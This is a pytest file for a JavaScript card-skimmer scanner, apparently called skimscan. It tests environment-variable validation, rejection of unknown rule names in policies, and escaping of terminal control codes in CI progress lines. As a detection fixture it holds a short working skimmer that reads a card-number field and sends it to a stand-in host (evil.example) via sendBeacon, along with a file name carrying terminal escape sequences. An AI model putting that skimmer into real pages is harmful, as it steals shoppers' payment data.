"""Hostile input, the command line: environment variables are checked exactly like their flags
(exit 2, the variable named), a rule name that does not exist is a configuration error rather
than a silent no-op, and a CI log (stderr not a terminal) sees one escaped line per finished
target unless `--quiet`."""

from __future__ import annotations

import argparse
import re
from pathlib import Path

import pytest

from skimscan.cli import build_parser, main
from skimscan.cliargs import check_env
from skimscan.policy.policy import PIPELINE_RULE_IDS, known_rule_ids, load_policy

ROOT = Path(__file__).resolve().parents[2]
CLEAR = "\x1b[2J\x1b[H"
SKIMMER = ("document.getElementById('pay').addEventListener('click', function () {"
           " var n = document.getElementById('cc_number').value;"
           " navigator.sendBeacon('https://evil.example/c', n); });\n")
#: Nothing listens on the discard port: a page scan of it fails at once, without a network.
NOWHERE = "http://127.0.0.1:9/checkout"


@pytest.fixture()
def files(tmp_path: Path) -> Path:
    (tmp_path / "good.js").write_text("var a = 1;\n")
    (tmp_path / f"skim{CLEAR}.js").write_text(SKIMMER)
    return tmp_path


def scan_file(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(["scan-file", "--no-cache", "-j", "1", "--detonate", "never", *args])
    out, err = capsys.readouterr()
    return code, out, err


# --- environment variables --------------------------------------------------------------------


@pytest.mark.parametrize(("variable", "value", "command"), [
    ("SKIMSCAN_FAIL_ON", "hgh", "scan-file"),
    ("SKIMSCAN_MIN_CONFIDENCE", "sure", "scan-file"),
    ("SKIMSCAN_FORMAT", "yaml", "scan-file"),
    ("SKIMSCAN_JOBS", "abc", "scan-file"),
    ("SKIMSCAN_NO_CACHE", "treu", "scan-file"),
    ("SKIMSCAN_DETONATE", "sometimes", "scan-file"),
    ("SKIMSCAN_DETONATE_TIMEOUT", "nan", "scan-file"),
    ("SKIMSCAN_CONCURRENCY", "-2", "scan-file"),
    ("SKIMSCAN_TIMEOUT", "abc", "scan"),
    ("SKIMSCAN_WAIT", "soon", "scan"),
    ("SKIMSCAN_NO_BROWSER", "maybe", "scan"),
    ("SKIMSCAN_DEBUG", "loud", "scan-file"),
])
def test_a_bad_variable_is_a_usage_error_naming_it(
        variable: str, value: str, command: str, files: Path,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv(variable, value)
    flags = ["--no-cache", "--detonate", "never"] if command == "scan-file" else \
        ["--no-cache", "--no-browser"]
    given = [f for f in flags if variable != "SKIMSCAN_" + f.lstrip("-").upper().replace("-", "_")]
    given = [f for f in given if f != "never" or "--detonate" in given]
    code = main([command, *given, str(files) if command == "scan-file" else NOWHERE])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.startswith(f"skimscan: {variable}={value!r}: ") and "Traceback" not in err


@pytest.mark.parametrize(("variable", "value"), [
    ("SKIMSCAN_MIN_SEVERITY", "hgh"), ("SKIMSCAN_ONCE", "maybe"), ("SKIMSCAN_NO_CACHE", "2"),
    ("SKIMSCAN_TIMEOUT", "abc"),
])
def test_the_monitoring_commands_check_their_variables_too(
        variable: str, value: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv(variable, value)
    once = [] if variable == "SKIMSCAN_ONCE" else ["--once"]  # (a flag beats its variable)
    code = main(["watch", *once, "--no-browser", "--db", str(tmp_path / "w.db"), NOWHERE])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith(f"skimscan: {variable}={value!r}: "), err
    assert not (tmp_path / "w.db").exists()


def test_a_scan_format_variable_does_not_reach_diff(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("SKIMSCAN_FORMAT", "sarif")  # for `scan`: not a format of `diff`
    code = main(["diff", "--no-scan", "--db", str(tmp_path / "none.db"), NOWHERE])
    err = capsys.readouterr().err
    assert code == 2 and "no such skimscan database" in err, err  # not a format error
    monkeypatch.setenv("SKIMSCAN_DIFF_FORMAT", "yaml")
    code = main(["diff", "--no-scan", "--db", str(tmp_path / "none.db"), NOWHERE])
    assert code == 2 and "SKIMSCAN_DIFF_FORMAT='yaml'" in capsys.readouterr().err


def test_a_bad_variable_never_breaks_version_or_other_commands(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("SKIMSCAN_JOBS", "abc")
    monkeypatch.setenv("SKIMSCAN_FORMAT", "sarif")  # not a format of deobfuscate or rules
    with pytest.raises(SystemExit) as info:
        main(["--version"])
    assert info.value.code == 0
    assert main(["rules", "list"]) == 0
    capsys.readouterr()


def test_a_flag_beats_a_bad_variable_and_replaces_a_list_variable(
        files: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("SKIMSCAN_FAIL_ON", "hgh")
    assert scan_file(["--fail-on", "never", str(files)], capsys)[0] == 0
    monkeypatch.delenv("SKIMSCAN_FAIL_ON")
    monkeypatch.setenv("SKIMSCAN_MAP_HOST", "shop.test=10.0.0.1")
    args = build_parser().parse_args(["scan", "--map-host", "shop.test=10.0.0.2", NOWHERE])
    check_env(args)
    assert args.map_host == ["shop.test=10.0.0.2"]
    monkeypatch.setenv("SKIMSCAN_TIMEOUT", "12.5")
    monkeypatch.setenv("SKIMSCAN_NO_SHOP", "yes")
    args = build_parser().parse_args(["scan", NOWHERE])
    check_env(args)
    assert args.timeout == 12.5 and args.no_interact is True
    assert args.map_host == ["shop.test=10.0.0.1"]


def _options(parser: argparse.ArgumentParser, path: tuple[str, ...] = ()
             ) -> list[tuple[tuple[str, ...], argparse.Action]]:
    out: list[tuple[tuple[str, ...], argparse.Action]] = []
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                out += _options(sub, (*path, name))
        elif action.option_strings and not isinstance(
                action, argparse._HelpAction | argparse._VersionAction):
            out.append((path, action))
    return out


def test_every_option_of_the_scan_commands_reads_its_variable() -> None:
    """The README's promise, checked: every option of `scan`, `scan-file`, `deobfuscate`,
    `rules test` and the global ones reads SKIMSCAN_<OPTION>."""
    own = {(), ("scan",), ("scan-file",), ("deobfuscate",), ("rules", "test")}
    missing = [f"{' '.join(path)} {action.option_strings[0]}"
               for path, action in _options(build_parser())
               if path in own and not getattr(action, "env_variables", ())]
    assert missing == []


def test_deobfuscate_has_its_own_output_variable(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """SKIMSCAN_OUTPUT names the scan report: `deobfuscate` must not overwrite it."""
    report = tmp_path / "report.json"
    report.write_text("{}")
    (tmp_path / "a.js").write_text("var a = 'x' + 'y';\n")
    monkeypatch.setenv("SKIMSCAN_OUTPUT", str(report))
    monkeypatch.setenv("SKIMSCAN_DEOBFUSCATE_OUTPUT", str(tmp_path / "plain.js"))
    assert main(["deobfuscate", str(tmp_path / "a.js")]) == 0
    assert report.read_text() == "{}" and "xy" in (tmp_path / "plain.js").read_text()
    capsys.readouterr()


# --- rule names that do not exist ------------------------------------------------------------


def test_rules_test_with_an_unknown_rule_exits_2_naming_it(
        capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["rules", "test", "--rule", "card-field-read", "--rule", "card-feild-read"])
    err = capsys.readouterr().err
    assert code == 2
    assert "'card-feild-read'" in err and "'card-field-read'" not in err


POLICY = """version: 1
sites:
  - name: Checkout
    pages: ["https://shop.example/checkout*"]
    suppressions:
      - rule: keystrokes-to-untrusted-host
        reason: Session replay with masking verified
      - rule: keystroke-to-untrusted-host
        reason: a typo that would suppress nothing
"""


def test_a_policy_naming_an_unknown_rule_is_a_configuration_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    code = main(["scan", "--no-browser", "--no-cache", "--policy", str(policy), NOWHERE])
    err = capsys.readouterr().err
    assert code == 2  # before: the scan ran, the suppression silently matched nothing
    assert f"{policy}:8:" in err and "'keystroke-to-untrusted-host'" in err
    # the monitoring commands load their policy the same way
    code = main(["watch", "--once", "--no-browser", "--db", str(tmp_path / "w.db"),
                 "--policy", str(policy), NOWHERE])
    err = capsys.readouterr().err
    assert code == 2 and f"{policy}:8:" in err, err


def test_policy_rule_check_accepts_rule_files_pipeline_ids_and_wildcards(
        tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.replace("keystroke-to-untrusted-host", "canary-exfiltration")
                      + "    overrides:\n      - {rule: '*', severity: low, reason: staging}\n")
    load_policy(policy).check_rule_ids(known_rule_ids({"keystrokes-to-untrusted-host"}))


def test_pipeline_rule_ids_are_ids_the_pipeline_emits() -> None:
    """The list a policy is checked against must not go stale: each id is in the source."""
    source = "\n".join(p.read_text() for p in (ROOT / "skimscan").rglob("*.py")
                       if p.name != "policy.py")
    for rule in PIPELINE_RULE_IDS:
        assert re.search(rf"[\"']{re.escape(rule)}[\"']", source), rule


# --- progress lines for CI logs ---------------------------------------------------------------


def test_progress_lines_per_target_escaped_and_quiet(
        files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = scan_file(["-f", "json", str(files)], capsys)
    assert code == 1
    lines = [line for line in err.splitlines() if line.startswith("skimscan: [")]
    assert len(lines) == 2
    assert re.match(r"^skimscan: \[1/2\] clean \d+\.\ds .*good\.js$", lines[0])
    assert re.match(r"^skimscan: \[2/2\] malicious \d+\.\ds .*skim\\x1b\[2J\\x1b\[H\.js$",
                    lines[1])
    assert "\x1b" not in err
    _, _, quiet = scan_file(["-f", "json", "--quiet", str(files)], capsys)
    assert "skimscan: [" not in quiet and "2 target(s)" in quiet
    _, _, single = scan_file(["-f", "json", str(files / "good.js")], capsys)
    assert "skimscan: [" not in single


def test_progress_lines_for_pages(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["scan", "--no-browser", "--no-cache", "-f", "json", NOWHERE,
                 NOWHERE.replace("checkout", f"pay{CLEAR}")])
    err = capsys.readouterr().err
    assert code == 3
    lines = sorted(line for line in err.splitlines() if line.startswith("skimscan: ["))
    assert [line.split()[1:3] for line in lines] == [["[1/2]", "error"], ["[2/2]", "error"]]
    assert "\x1b" not in err and "pay\\x1b[2J" in err
